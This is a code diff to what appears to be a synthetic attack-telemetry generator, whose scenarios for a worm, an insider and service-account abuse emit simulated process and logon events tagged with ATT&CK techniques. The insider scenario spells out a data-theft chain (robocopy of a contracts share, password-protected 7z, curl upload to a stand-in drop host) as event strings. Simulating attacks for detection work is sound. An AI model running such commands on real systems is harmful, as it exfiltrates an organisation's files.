@@ -96,17 +96,19 @@ def lolbin_only(story: Story, day_us: int) -> None:
 def worm(story: Story, day_us: int) -> None:
     """The same new unsigned program on many hosts within an hour, started by remote execution."""
     world, rng = story.world, story.rng
-    hosts = pick(story, world.of_role("workstation", "server", "kiosk"), int(rng.integers(6, 31)))
-    account, system = pick_account(story, "person"), world.named("SYSTEM")
+    first = pick_desks(story, 1)[0]
+    others = pick(story, world.of_role("workstation", "server", "kiosk"), int(rng.integers(6, 31)))
+    hosts = [first, *(host for host in others if host != first)]
+    account, system = world.hosts[first].owner, world.named("SYSTEM")
     name = new_name(rng)
-    clock = clock_at(story, hosts[0], day_us, 10, 16)
+    clock = clock_at(story, first, day_us, 10, 16)
     explorer = story.running("explorer.exe")
     path = f"{home_of(story, account)}\\Downloads\\{name}"
-    story.process(hosts[0], account, clock.now, name, "", parent=explorer, technique="T1204.002", exe=path)
+    story.process(first, account, clock.now, name, "", parent=explorer, technique="T1204.002", exe=path)
     begun = clock.after(30, 120)
     for host in hosts[1:]:
         here = Clock(rng, begun + int(rng.beta(1.5, 2.0) * 0.9 * HOUR_US))
-        source = hosts[0] if rng.random() < 0.5 else int(rng.choice(hosts))  # noqa: PLR2004
+        source = first if rng.random() < 0.5 else int(rng.choice(hosts))  # noqa: PLR2004
         story.logon(host, account, here.now, "3", technique="T1021.002", source=source)
         parent = story.running("services.exe" if rng.random() < 0.7 else "WmiPrvSE.exe")  # noqa: PLR2004
         story.process(
@@ -123,12 +125,12 @@ def insider(story: Story, day_us: int) -> None:
     for night, host in enumerate(others):
         clock = clock_at(story, own, day_us + night * DAY_US, 20.5, 22.5)
         story.logon(host, user, clock.now, "10", technique="T1021.001", source=own)
-        explorer = story.running("explorer.exe")
+        explorer, packed = story.running("explorer.exe"), f"C:\\Users\\Public\\c{night}"
         shell = story.process(host, user, clock.after(30, 200), "cmd.exe", "", parent=explorer, technique="T1059.003")
         for name, tail, technique in (
-            ("robocopy.exe", f"C:\\Shares\\Contracts C:\\Users\\Public\\c{night} /E", "T1005"),
-            ("7z.exe", f"a -pTide{rng.integers(100, 999)} C:\\Users\\Public\\c{night}.7z C:\\Users\\Public\\c{night}", "T1560.001"),
-            ("curl.exe", f"-T C:\\Users\\Public\\c{night}.7z https://drop.harbourbox.example/", "T1567.002"),
+            ("robocopy.exe", f"C:\\Shares\\Contracts {packed} /E", "T1005"),
+            ("7z.exe", f"a -pTide{rng.integers(100, 999)} {packed}.7z {packed}", "T1560.001"),
+            ("curl.exe", f"-T {packed}.7z https://drop.harbourbox.example/", "T1567.002"),
         ):  # fmt: skip
             started = story.process(host, user, clock.after(60, 900), name, tail, parent=shell, technique=technique)
         story.connect(
@@ -151,10 +153,8 @@ def service_account_abuse(story: Story, day_us: int) -> None:
     clock = clock_at(story, first, day_us, 9, 12)
     source = first
     for host in [first, *others]:
-        kind, technique = ("2", "T1078.002") if host == first else ("10", "T1021.001")
-        story.logon(
-            host, account, clock.after(300, 3600), kind, technique=technique, source=-1 if kind == "2" else source
-        )
+        kind, technique, origin = ("2", "T1078.002", -1) if host == first else ("10", "T1021.001", source)
+        story.logon(host, account, clock.after(300, 3600), kind, technique=technique, source=origin)
         explorer = story.running("explorer.exe")
         shell = story.process(
             host, account, clock.after(20, 90), "powershell.exe", "", parent=explorer, technique="T1059.001"
